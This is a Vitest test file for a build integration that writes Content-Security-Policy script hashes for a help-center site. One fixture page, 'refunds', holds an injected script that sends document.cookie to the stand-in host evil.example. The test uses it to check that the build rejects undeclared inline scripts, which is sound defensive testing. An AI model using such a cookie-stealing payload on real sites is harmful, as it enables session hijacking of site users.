import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterEach, beforeEach, expect, test } from 'vitest';
import securityHeaders from '../../src/integrations/security-headers.ts';
import { SEARCH_LOADER_SCRIPT } from '../../src/client/search-loader.ts';
import { hashSource } from '../../src/lib/security/headers.ts';
import { projectRoot, removeDir, scratchDir } from '../helpers/site-copy.ts';

let dist: string;

beforeEach(async () => {
	dist = await scratchDir('help-center-headers-');
	await copyFile(path.join(projectRoot, 'public/_headers'), path.join(dist, '_headers'));
});
afterEach(() => removeDir(dist));

async function page(name: string, body: string) {
	await mkdir(path.join(dist, name), { recursive: true });
	await writeFile(
		path.join(dist, name, 'index.html'),
		`<!doctype html><html lang="en"><head><title>t</title></head><body>${body}</body></html>`,
	);
}

function run() {
	const hooks = securityHeaders().hooks as Record<string, (arg: unknown) => Promise<void>>;
	return hooks['astro:build:done']!({ dir: pathToFileURL(`${dist}/`), logger: { info() {} } });
}

const loader = `<script data-search-module="/_astro/search.js">${SEARCH_LOADER_SCRIPT}</script>`;

test("allows the site's own inline script by its hash", async () => {
	await page('payments', `<main>Pay</main>${loader}`);
	await run();
	const headers = await readFile(path.join(dist, '_headers'), 'utf8');
	const scriptSrc = /script-src [^;]*/.exec(headers)?.[0] ?? '';
	expect(scriptSrc).toContain(await hashSource(SEARCH_LOADER_SCRIPT));
});

test('stops the build on an inline script the site does not declare, naming the page, and never hashes it', async () => {
	await page('payments', `<main>Pay</main>${loader}`);
	await page('refunds', `<main>Refund <script>fetch('https://evil.example/?c='+document.cookie)</script></main>${loader}`);
	const failure = run();
	await expect(failure).rejects.toThrow(/inline script the site's code does not declare/);
	await expect(failure).rejects.toThrow(/refunds\/index\.html: <script>fetch\('https:\/\/evil\.example/);
	expect(await readFile(path.join(dist, '_headers'), 'utf8')).not.toContain('sha256-');
});
